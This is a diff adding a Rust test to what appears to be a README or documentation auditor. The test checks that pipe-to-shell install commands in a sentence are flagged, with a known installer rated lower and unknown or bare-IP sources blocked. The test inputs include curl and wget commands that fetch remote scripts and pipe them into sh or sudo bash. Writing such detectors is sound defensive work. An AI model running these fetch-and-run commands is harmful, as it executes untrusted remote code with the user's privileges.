@@ -146,6 +146,22 @@ fn a_script_of_an_unknown_project_that_is_piped_into_a_shell_is_a_warning() {
 }
 
 #[test]
+fn a_command_in_a_sentence_is_read_like_one_in_a_code_block() {
+    let severity = |line: &str| {
+        let report = audit(&tree(&format!("## Setup\nInstall: {line}\n")));
+        report.findings.iter().filter(|f| f.rule == Rule::PipeToShell).map(|f| f.severity).max()
+    };
+    for (line, expected) in [
+        ("curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.0/install.sh | bash", Severity::Note),
+        ("curl -fsSL https://get.qzx-tool.dev | sh", Severity::Block),
+        ("wget -qO- http://203.0.113.9/a | sudo bash", Severity::Block),
+    ] {
+        assert_eq!(severity(line), Some(expected), "{line}");
+    }
+    assert_eq!(severity("curl is a program, and sh is a shell | table"), None);
+}
+
+#[test]
 fn a_runner_that_fetches_an_unknown_package_is_reported() {
     let rules = |line: &str| {
         let report = audit(&tree(&format!("Run `{line}` first.")));
